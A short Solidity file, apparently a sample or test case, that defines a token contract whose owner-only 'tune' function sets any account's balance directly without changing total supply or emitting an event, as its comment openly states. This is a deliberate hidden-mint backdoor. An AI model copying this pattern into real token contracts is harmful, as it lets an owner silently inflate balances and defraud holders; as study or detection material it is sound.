// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Token} from "./Token.sol";

/// The owner writes itself a balance; neither the supply nor an event tells.
contract SupplyGrowsUnseen is Token {
    function tune(address account, uint256 value) external onlyOwner {
        balanceOf[account] = value;
    }
}
